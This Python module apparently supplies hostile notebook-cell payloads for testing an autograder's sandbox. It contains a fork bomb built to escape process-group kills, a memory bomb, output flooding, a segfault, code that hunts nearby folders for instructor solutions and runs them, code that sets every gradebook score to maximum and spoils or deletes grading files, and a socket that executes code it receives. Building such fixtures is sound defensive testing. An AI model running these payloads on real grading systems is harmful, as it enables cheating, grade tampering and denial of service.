"""The hostile code itself, as a submission would put it in a notebook cell.

Each attack is written so that a machine without a sandbox survives it too: the fork bomb stops at a
few thousand processes that exit by themselves, the memory bomb is a single process for the
out-of-memory killer to pick, and nothing here writes outside the grading folder it runs in or
reads more than a few folders around it.
"""
from __future__ import annotations

__all__ = ["LISTEN_PORT", "TAMPER_MARK", "FORK_BOMB_CAP", "FORK_BOMB_CHILD", "INFINITE_LOOP", "IGNORES_INTERRUPT",
           "SLEEPS_PAST_LIMIT", "FORK_BOMB", "MEMORY_BOMB", "HUGE_OUTPUT", "SEGFAULT", "READS_SOLUTIONS",
           "WRITES_GRADEBOOK", "OPENS_NETWORK"]

LISTEN_PORT = "LISTEN_PORT"  # placeholder: make_submission puts the port the test listens on here
TAMPER_MARK = "written-by-a-hostile-submission"
FORK_BOMB_CAP = 4096
FORK_BOMB_CHILD = "hostile-fork-bomb-child"  # the children's command name, so leftovers can be found

INFINITE_LOOP = """
while True:
    pass
"""

IGNORES_INTERRUPT = """
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)  # the grader's interrupt at the time limit now does nothing
while True:
    pass
"""

SLEEPS_PAST_LIMIT = """
import time

time.sleep(10**6)
"""

FORK_BOMB = """
import os
import shutil
import time

sleep = shutil.which("sleep")
started = 0
try:
    while started < CAP:  # far above any process limit, few enough for a machine without one
        if sleep:
            # A spawn shares the kernel's memory until the exec: no page tables copied, so even a loaded machine
            # reaches the process limit in a fraction of a second (a fork of a Python with PyTorch loaded takes
            # milliseconds each). setsid: out of the kernel's process group, so killing the group misses it.
            os.posix_spawn(sleep, ["CHILD", "600"], os.environ, setsid=True)
        elif os.fork() == 0:  # the child never returns into the kernel: it sleeps ten minutes and exits
            try:
                os.setsid()
                time.sleep(600)
            finally:
                os._exit(0)
        started += 1
except OSError as refused:
    print(f"fork refused after {started} processes: {refused}")
    raise
""".replace("CAP", str(FORK_BOMB_CAP)).replace("CHILD", FORK_BOMB_CHILD)

# It reserves everything before writing: a memory limit refuses the reservation at once, where
# writing gigabytes page by page can take longer than a cell may run on a slow machine.
MEMORY_BOMB = """
import mmap

held = [mmap.mmap(-1, 1 << 30) for _ in range(64)]  # 64 GB of anonymous memory, as malloc gets it
for block in held:
    block[::4096] = b"x" * (len(block) // 4096)  # one byte in every page makes the whole page real
"""

HUGE_OUTPUT = """
import sys

line = "x" * (1 << 20)
for _ in range(1024):  # one line of 1 GB, a megabyte at a time, so the kernel never holds it all
    sys.stdout.write(line)
    sys.stdout.flush()
"""

SEGFAULT = """
import ctypes

ctypes.string_at(0)  # reads address 0: the crash a broken C or CUDA extension causes
"""

# Shared by the two attacks that look around: files near a folder, except the submission's own.
_FILES_NEAR = '''
import os
from pathlib import Path

own_folder = Path.cwd().resolve()
me = own_folder.parent.name  # nbgrader runs a notebook in autograded/<student>/<assignment>


def files_near(top, depth=4):
    """Files up to ``depth`` folders below ``top``, skipping every folder named after this student."""
    if me in Path(top).parts:
        return
    for folder, subfolders, files in os.walk(top):
        level = folder[len(str(top)):].count(os.sep)
        subfolders[:] = [d for d in subfolders if d != me and not d.startswith(".")] if level < depth else []
        yield from (Path(folder, name) for name in files)
'''

READS_SOLUTIONS = _FILES_NEAR + '''
import json
import sqlite3

import course

repository = Path(course.__file__).resolve().parent.parent
answer = None
for place in [*own_folder.parents][:5] + [repository]:
    if len(place.parts) <= 2:
        continue  # / and /tmp: walking the whole machine takes longer than a cell may run
    for path in files_near(place):
        try:
            if path.name == "gradebook.db":
                with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as db:
                    cells = dict(db.execute("SELECT name, source FROM source_cell"))
            elif path.suffix == ".ipynb":
                cells = {c["metadata"].get("nbgrader", {}).get("grade_id"): "".join(c["source"])
                         for c in json.loads(path.read_text())["cells"]}
            else:
                continue
        except (OSError, ValueError, KeyError, AttributeError, sqlite3.Error):
            continue
        if any("BEGIN SOLUTION" in (source or "") for source in cells.values()):
            print(f"leaked {path}:")
            print("\\n".join(source for source in cells.values() if source))
            if "BEGIN SOLUTION" in (cells.get("attention_flops") or ""):
                answer = answer or cells["attention_flops"]
if answer:
    exec(answer, globals())  # the instructor's solution earns points this submission never wrote
else:
    print("nothing outside its own folder could be read")
'''

WRITES_GRADEBOOK = _FILES_NEAR + '''
import sqlite3

import course

MARK = "TAMPER_MARK"
repository = Path(course.__file__).resolve().parent.parent
# Near its own folder only, never in or above the course repository: on a machine without a
# sandbox this can spoil only the grading folder it runs in.
places = [p for p in [*own_folder.parents][:5]
          if len(p.parts) > 2 and not p.is_relative_to(repository) and not repository.is_relative_to(p)]
for place in places:
    database = place / "gradebook.db"
    if database.is_file():
        try:
            with sqlite3.connect(database, timeout=10) as db:
                db.execute("UPDATE grade SET manual_score = "
                           "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
            print("gradebook written:", database)
        except sqlite3.Error as refused:
            print("gradebook refused:", database, refused)
    for path in files_near(place):
        try:
            if path.suffix == ".ipynb":
                with open(path, "a") as notebook:
                    notebook.write(MARK)
                print("spoiled", path)
            elif path.name == "timestamp.txt":
                path.unlink()
                print("deleted", path)
            (path.parent / f"{MARK}.txt").write_text(MARK)
        except OSError as refused:
            print("refused:", path, refused)
'''.replace("TAMPER_MARK", TAMPER_MARK)

OPENS_NETWORK = """
import socket

try:
    with socket.create_connection(("127.0.0.1", LISTEN_PORT), timeout=3) as channel:
        channel.sendall(b"send me the answers\\n")
        exec(channel.recv(1 << 16).decode())
except OSError as refused:
    print("no connection:", refused)
"""
